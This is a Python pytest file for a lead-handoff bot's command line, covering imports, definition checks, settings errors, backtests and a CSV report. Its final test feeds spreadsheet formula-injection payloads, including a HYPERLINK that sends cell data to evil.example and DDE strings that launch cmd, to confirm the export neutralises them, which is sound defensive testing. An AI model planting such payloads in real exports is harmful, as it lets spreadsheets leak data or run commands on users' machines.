"""The `handoff` command line through its entry point (bot.cli:main)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from bot import clock
from bot.cli import main
from store.db import Database
from store.models import Handoff, Lead
from tests.conftest import DATA, lead


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    values = {
        "DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}",
        "HANDOFF_DEFINITION": str(DATA / "definition.yml"),
    }
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    return values


def invoke(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def count(url: str, model: type) -> int:
    db = Database(url)
    with db.session() as session:
        total = session.scalar(select(func.count()).select_from(model)) or 0
    db.dispose()
    return total


def signal_cell() -> str:
    at = clock.now().replace(microsecond=0).isoformat()
    return f"demo_request@{at};pricing_page@{at};pricing_page@{at}"


def write_csv(path: Path) -> Path:
    path.write_text(
        "id,email,company,source,campaign,attributes.employees,attributes.country,signals\n"
        f"a1,ana@acme.example,Acme,webinar,Q4,250,AU,{signal_cell()}\n"
        f"a2,bo@tiny.example,Tiny,ebook,Q4,5,AU,{signal_cell()}\n"
        f",no-id@x.example,NoId,ebook,Q4,250,AU,\n"
        f"a4,cy@nz.example,,ads,Q4,300,NZ,{signal_cell()}\n"
        f"a5,dee@x.example,Bad,ads,Q4,300,AU,demo_request\n"
    )
    return path


def test_import_csv_summarises_and_lists_invalid_rows(env, tmp_path) -> None:
    result = invoke("import", str(write_csv(tmp_path / "leads.csv")))
    assert result.exit_code == 2  # the valid rows are in; the status says some were not
    assert "imported 3 lead(s), 2 invalid row(s) were left out" in result.stdout
    assert "qualified, handed off to sales" in result.stdout
    assert "line 4: id: required" in result.stderr
    assert (
        "line 6: signal 'demo_request' should look like name@2026-11-20T10:00:00Z" in result.stderr
    )
    url = env["DATABASE_URL"]
    assert (count(url, Lead), count(url, Handoff)) == (3, 1)


def test_import_jsonl_with_a_broken_line(env, tmp_path) -> None:
    path = tmp_path / "leads.jsonl"
    path.write_text(json.dumps(lead("j1")) + "\n{oops\n" + json.dumps(lead("j2")) + "\n")
    result = invoke("import", str(path))
    assert result.exit_code == 2
    assert "imported 2 lead(s), 1 invalid row(s)" in result.stdout
    assert "line 2: not valid JSON: Expecting property name" in result.stderr


def test_import_dry_run_stores_nothing(env, tmp_path) -> None:
    result = invoke("import", "--dry-run", str(write_csv(tmp_path / "leads.csv")))
    assert "would import 3 lead(s)" in result.stdout
    assert count(env["DATABASE_URL"], Lead) == 0


def test_import_unreadable_file_exits_2(env, tmp_path) -> None:
    result = invoke("import", str(tmp_path / "missing.csv"))
    assert result.exit_code == 2
    assert "cannot read" in result.stderr


def test_definition_check_ok_and_bad(env, tmp_path) -> None:
    ok = invoke("definition", "check")
    assert ok.exit_code == 0 and "OK (version 3" in ok.stdout
    bad = tmp_path / "bad.yml"
    bad.write_text((DATA / "definition.yml").read_text().replace("in: [AU, NZ]", "in: AU"))
    result = invoke("definition", "check", str(bad))
    assert result.exit_code == 2
    assert "fit[1].in: expected a list" in result.stderr
    assert "Traceback" not in result.stderr


def test_run_without_settings_names_every_problem(env) -> None:
    result = invoke("run")
    assert result.exit_code == 2
    for variable in (
        "SLACK_BOT_TOKEN: required",
        "SLACK_SIGNING_SECRET: required",
        "HANDOFF_INTAKE_SECRET: required",
    ):
        assert variable in result.stderr


def test_run_with_malformed_settings(env, monkeypatch) -> None:
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxp-user-token")
    monkeypatch.setenv("SLACK_APP_TOKEN", "nope")
    monkeypatch.setenv("PORT", "eighty")
    result = invoke("run")
    assert result.exit_code == 2
    assert "PORT:" in result.stderr


def test_backtest_compares_with_sales_decisions(env, tmp_path) -> None:
    invoke("import", str(write_csv(tmp_path / "leads.csv")))
    stricter = tmp_path / "stricter.yml"
    stricter.write_text(
        (DATA / "definition.yml")
        .read_text()
        .replace("version: 3", "version: 4")
        .replace("between: [50, 5000]", "between: [260, 5000]")
    )
    result = invoke("backtest", str(stricter))
    assert result.exit_code == 0, result.stderr
    assert "on 3 stored leads" in result.stdout
    assert "qualified            2          1      -1" in result.stdout
    assert "No longer qualifying (1): a1 (Acme)" in result.stdout


def test_demo_runs_without_slack(env) -> None:
    result = invoke("demo")
    assert result.exit_code == 0, result.stderr
    assert "handed off to sales" in result.stdout
    assert "Why " in result.stdout


@pytest.mark.skipif(
    shutil.which("handoff") is None and not Path(sys.prefix, "bin", "handoff").exists(),
    reason="console script not installed",
)
def test_console_script_is_installed() -> None:
    script = shutil.which("handoff") or str(Path(sys.prefix, "bin", "handoff"))
    result = subprocess.run([script, "--help"], capture_output=True, text=True, check=False)
    assert result.returncode == 0 and "definition" in result.stdout


FORMULAS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': "webinar",
    "+cmd|' /C calc'!A0": "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "\t=1+1",  # the intake's trim drops the tab: "=1+1"
    "Plain": " \r=2+2",
}


def test_report_csv_cells_a_spreadsheet_would_run_are_quoted(env, tmp_path) -> None:
    """Sources and campaigns are lead data: in CSV a formula arrives as text (a leading
    apostrophe, which spreadsheets hide), whatever whitespace comes before it."""
    path = tmp_path / "leads.jsonl"
    path.write_text(
        "".join(
            json.dumps(lead(f"f{i}", source=source, campaign=campaign)) + "\n"
            for i, (source, campaign) in enumerate(FORMULAS.items())
        )
    )
    assert invoke("import", str(path)).exit_code == 0
    cells = {}
    for by in ("source", "campaign"):
        result = invoke("report", "--by", by, "--format", "csv")
        assert result.exit_code == 0, result.stderr
        rows = list(csv.reader(io.StringIO(result.stdout)))
        assert rows[0][:2] == ["group", "handed_off"]
        cells[by] = {row[0]: row[1] for row in rows[1:]}
        for row in rows:
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells["source"] == {
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")': "1",
        "'+cmd|' /C calc'!A0": "1",
        "'@SUM(1+1)*cmd|' /C calc'!A0": "1",
        "Plain": "1",
    }
    assert cells["campaign"] == {"webinar": "1", "'-2+3": "1", "'=1+1": "1", "'=2+2": "1"}
